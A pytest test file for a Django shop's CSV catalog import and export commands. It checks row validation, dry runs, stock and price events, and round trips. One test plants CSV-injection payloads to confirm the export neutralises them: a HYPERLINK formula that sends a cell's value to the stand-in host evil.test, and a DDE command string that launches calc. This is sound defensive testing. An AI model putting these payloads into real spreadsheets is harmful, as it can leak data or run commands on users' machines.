"""`manage.py import_catalog` and `export_catalog`: the catalog as a spreadsheet, both ways."""

import csv
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from shop.catalog.csv_io import COLUMNS
from shop.catalog.models import OutboxMessage, Product, StockMovement, Variant

from .factories import make_category, make_product

pytestmark = pytest.mark.django_db

HEADER = "sku,product_slug,product_name,category_slug,options,price,compare_at_price,stock_on_hand"


@pytest.fixture
def write(tmp_path):
    def write(*lines: str, name: str = "catalog.csv", encoding: str = "utf-8") -> str:
        path = tmp_path / name
        path.write_text("".join(f"{line}\n" for line in lines), encoding=encoding)
        return str(path)

    return write


def run_import(path: str, *args) -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command("import_catalog", path, *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def catalog_state() -> list[tuple]:
    return list(
        Variant.objects.order_by("sku").values_list(
            "sku",
            "product__slug",
            "product__name",
            "product__category__slug",
            "product__description",
            "product__is_active",
            "options",
            "price",
            "compare_at_price",
            "stock_on_hand",
            "is_active",
        )
    )


def test_import_creates_new_skus_and_updates_existing_ones(write):
    make_category("Shirts")
    make_product("Old name", slug="linen-shirt", variants=[{"sku": "SHI-M", "price": Decimal(30)}])
    path = write(
        HEADER,
        "SHI-M,linen-shirt,Linen Shirt,shirts,size=M;colour=Blue,34.50,49.00,12",
        "SHI-L,linen-shirt,Linen Shirt,shirts,size=L;colour=Blue,34.50,49.00,0",
        "MUG-1,enamel-mug,Enamel Mug,,,9.95,,40",
    )

    output, _ = run_import(path)

    assert "products created 1, updated 1; variants created 2, updated 1" in output
    shirt = Product.objects.get(slug="linen-shirt")
    assert (shirt.name, shirt.category.slug) == ("Linen Shirt", "shirts")
    assert [(v.sku, v.label, v.price) for v in shirt.variants.all()] == [
        ("SHI-M", "M / Blue", Decimal("34.50")),
        ("SHI-L", "L / Blue", Decimal("34.50")),
    ]
    mug = Variant.objects.get(sku="MUG-1")
    assert (mug.product.name, mug.options, mug.stock_on_hand) == ("Enamel Mug", {}, 40)
    assert mug.product.category is None


def test_stock_changed_by_an_import_is_in_the_stock_ledger_as_import(write):
    make_product("Mug", slug="mug", variants=[{"sku": "MUG", "stock_on_hand": 10}])
    path = write(HEADER, "MUG,mug,Mug,,,10.00,,7", "NEW,mug,Mug,,,10.00,,3")

    run_import(path)

    ledger = StockMovement.objects.order_by("variant__sku").values_list(
        "variant__sku", "delta", "reason"
    )
    assert list(ledger) == [("MUG", -3, "import"), ("NEW", 3, "import")]


def test_price_changed_by_an_import_is_announced_to_the_other_apps(write):
    make_product("Mug", slug="mug", variants=[{"sku": "MUG", "price": Decimal(10)}])

    run_import(write(HEADER, "MUG,mug,Mug,,,12.00,,10"))

    message = OutboxMessage.objects.get(event_name="catalog.VariantPriceChanged")
    assert (message.payload["price"], message.payload["previous_price"]) == ("12.00", "10.00")


def test_a_bad_row_changes_nothing_and_its_line_is_named(write):
    make_product("Mug", slug="mug", variants=[{"sku": "MUG", "price": Decimal(10)}])
    before = catalog_state()
    path = write(
        HEADER,
        "MUG,mug,Mug,,,12.00,,10",
        "TEE,tee,Tee,,,twelve,,5",
    )

    with pytest.raises(CommandError) as error:
        run_import(path)

    assert "line 3, price: 'twelve' is not an amount" in str(error.value)
    assert "nothing was imported" in str(error.value)
    assert catalog_state() == before
    assert not StockMovement.objects.exists()


def test_every_bad_row_is_reported_with_its_line_and_column(write):
    make_category("Shirts")
    make_product("Tee", slug="tee", variants=[{"sku": "TAKEN"}])
    path = write(
        HEADER,
        "A,mug,Mug,,,9.999,,1",
        "B,mug,Mug,,,9.00,,-2",
        "C,cup,Cup,no-such-category,,9.00,,1",
        "D,mug,Mug,,size M,9.00,,1",
        "E,mug,Mug,,,9.00,,1",
        "E,mug,Mug,,,9.00,,1",
        "TAKEN,mug,Mug,,,9.00,,1",
        "F,Not A Slug,Mug,,,9.00,,1",
        "G,mug,Mug,,,9.00,,1,extra",
        "H,mug,Other name,,,9.00,,1",
    )

    with pytest.raises(CommandError) as error:
        run_import(path)

    message = str(error.value)
    for expected in [
        "line 2, price: At most 2 decimal places",
        "line 3, stock_on_hand: Stock on hand cannot be negative",
        "line 4, category_slug: No category has the slug 'no-such-category'",
        "line 5, options: 'size M' is not name=value",
        "line 6, sku: The SKU E is on more than one line (6, 7)",
        "line 7, sku: The SKU E is on more than one line (6, 7)",
        "line 8, product_slug: The SKU TAKEN belongs to the product tee",
        "line 9, product_slug:",
        "line 10: 9 values, but the header has 8",
        "line 11, product_name: Differs from line 6 for the same product mug",
    ]:
        assert expected in message
    assert not Product.objects.filter(slug="mug").exists()


def test_skip_invalid_imports_the_good_rows_and_reports_the_bad(write):
    path = write(
        HEADER,
        "MUG-1,mug,Mug,,,9.95,,4",
        "MUG-2,mug,Mug,,,oops,,4",
        "CUP-1,cup,Cup,,,5.00,,-1",
        "BOWL-1,bowl,Bowl,,,12.00,,2",
    )

    output, errors = run_import(path, "--skip-invalid")

    assert sorted(Variant.objects.values_list("sku", flat=True)) == ["BOWL-1", "MUG-1"]
    assert not Product.objects.filter(slug="cup").exists()
    assert "2 bad row(s) skipped" in errors
    assert "line 3, price" in errors
    assert "line 4, stock_on_hand" in errors
    assert "variants created 2" in output


def test_dry_run_reports_what_would_change_and_writes_nothing(write):
    make_product("Mug", slug="mug", variants=[{"sku": "MUG", "price": Decimal(10)}])
    before = catalog_state()
    path = write(HEADER, "MUG,mug,Mug,,,11.00,,10", "NEW,new,New,,,1.00,,1")

    output, _ = run_import(path, "--dry-run")

    assert "Dry run, nothing written" in output
    assert "products would be created 1" in output
    assert "variants would be created 1, would be updated 1" in output
    assert catalog_state() == before
    assert not OutboxMessage.objects.exists()


def test_dry_run_lists_the_bad_rows_too(write):
    _, errors = run_import(write(HEADER, "X,x,X,,,-1,,1"), "--dry-run")

    assert "line 2, price: An amount cannot be negative" in errors
    assert not Variant.objects.exists()


def test_export_then_import_is_a_round_trip_that_changes_nothing(tmp_path):
    shirts = make_category("Shirts")
    make_product(
        "Linen Shirt",
        slug="linen-shirt",
        category=shirts,
        description='Soft, "washed" linen;\nmade in Porto. Crème de la crème.',
        variants=[
            {"sku": "SHI-M", "options": {"size": "M", "fit": "a=b;c%"}, "price": Decimal("34.5")},
            {"sku": "SHI-L", "options": {"size": "L"}, "compare_at_price": Decimal(40)},
        ],
    )
    make_product("Mug", slug="mug", is_active=False, variants=[{"sku": "MUG", "is_active": False}])
    before = catalog_state()
    first = tmp_path / "first.csv"

    call_command("export_catalog", str(first), stdout=StringIO())
    output, _ = run_import(str(first))
    second = tmp_path / "second.csv"
    call_command("export_catalog", str(second), stdout=StringIO())

    assert "unchanged 3" in output
    assert "created 0" in output and "updated 0" in output
    assert catalog_state() == before
    assert not StockMovement.objects.exists()
    assert not OutboxMessage.objects.exists()
    assert second.read_bytes() == first.read_bytes()


def test_a_formula_planted_by_an_import_is_exported_as_text(write, tmp_path):
    """CSV injection: cells a spreadsheet would run come out with a leading apostrophe."""
    planted = write(
        "sku,product_slug,product_name,description,options,price,stock_on_hand",
        '@SUM(1+1),promo,"=HYPERLINK(""http://evil.test/?""&A1,""Click"")",'
        "\"+cmd|' /C calc'!A0\",-x=1,12.50,3",
        'TAB,tab,"\t=1+1","\r=1+1",,9.00,0',
        'TAB2,tab2,Tab,"\t=2",,9.00,0',
    )
    run_import(planted)
    exported = tmp_path / "export.csv"

    call_command("export_catalog", str(exported), stdout=StringIO())

    with exported.open(encoding="utf-8", newline="") as file:
        rows = {row["product_slug"]: row for row in csv.DictReader(file)}
    promo, tab = rows["promo"], rows["tab"]
    assert promo["sku"] == "'@SUM(1+1)"
    assert promo["product_name"] == '\'=HYPERLINK("http://evil.test/?"&A1,"Click")'
    assert promo["description"] == "'+cmd|' /C calc'!A0"
    assert promo["options"] == "'-x=1"
    assert (tab["product_name"], tab["description"]) == ("'=1+1", "'\r=1+1")
    assert rows["tab2"]["description"] == "'\t=2"
    assert (promo["price"], promo["stock_on_hand"]) == ("12.50", "3")


def test_a_neutralised_export_imported_back_is_a_round_trip(tmp_path):
    make_product(
        "-20% linen",
        slug="linen",
        description="'=already quoted",
        variants=[{"sku": "+44-LINEN", "options": {"-size": "@M"}}],
    )
    make_product("'quoted but harmless", slug="mug", variants=[{"sku": "MUG"}])
    before = catalog_state()
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"

    call_command("export_catalog", str(first), stdout=StringIO())
    output, _ = run_import(str(first))
    call_command("export_catalog", str(second), stdout=StringIO())

    assert "unchanged 2" in output
    assert catalog_state() == before
    assert second.read_bytes() == first.read_bytes()
    text = first.read_text(encoding="utf-8")
    assert "'-20% linen" in text and "''=already quoted" in text
    assert ",'quoted but harmless," in text


def test_the_export_ends_lines_with_crlf_and_an_import_reads_crlf_or_lf(tmp_path):
    make_product("Mug", slug="mug", variants=[{"sku": "MUG"}])
    exported = tmp_path / "export.csv"
    call_command("export_catalog", str(exported), stdout=StringIO())
    crlf = exported.read_bytes()
    lf = tmp_path / "lf.csv"
    lf.write_bytes(crlf.replace(b"\r\n", b"\n"))

    assert crlf.count(b"\r\n") == 2
    assert b"\n" not in crlf.replace(b"\r\n", b"")
    for path in (exported, lf):
        output, _ = run_import(str(path))
        assert "unchanged 1" in output, path.name


def test_export_to_standard_output_has_a_header_and_a_row_per_variant():
    make_product("Mug", slug="mug", variants=[{"sku": "MUG-W"}, {"sku": "MUG-B"}])
    out = StringIO()

    call_command("export_catalog", "-", stdout=out)

    rows = list(csv.DictReader(StringIO(out.getvalue())))
    assert list(rows[0]) == list(COLUMNS)
    assert [row["sku"] for row in rows] == ["MUG-W", "MUG-B"]
    assert rows[0]["product_slug"] == "mug"


def test_a_file_saved_by_a_spreadsheet_with_a_byte_order_mark_is_read(write):
    path = write(HEADER, "MUG,mug,Mug,,,9.95,,4", encoding="utf-8-sig")

    run_import(path)

    assert Variant.objects.filter(sku="MUG").exists()


@pytest.mark.parametrize(
    ("lines", "message"),
    [
        ((), "The file is empty"),
        (("sku,product_slug,product_name,stock_on_hand", "A,a,A,1"), "missing column(s): price"),
        ((HEADER + ",colour",), "unknown column(s): 'colour'"),
    ],
    ids=["empty file", "missing column", "unknown column"],
)
def test_a_file_that_cannot_be_read_as_a_catalog_is_refused_clearly(write, lines, message):
    with pytest.raises(CommandError, match=message.replace("(", r"\(").replace(")", r"\)")):
        run_import(write(*lines))


def test_a_file_that_is_not_utf8_is_refused_clearly(tmp_path):
    path = tmp_path / "latin1.csv"
    path.write_bytes(f"{HEADER}\nMUG,mug,Cr\xe8me,,,1.00,,1\n".encode("latin-1"))

    with pytest.raises(CommandError, match="not UTF-8"):
        run_import(str(path))
    assert not Variant.objects.exists()


def test_a_header_only_file_imports_nothing_and_says_so(write):
    output, _ = run_import(write(HEADER))

    assert output.startswith("0 row(s)")
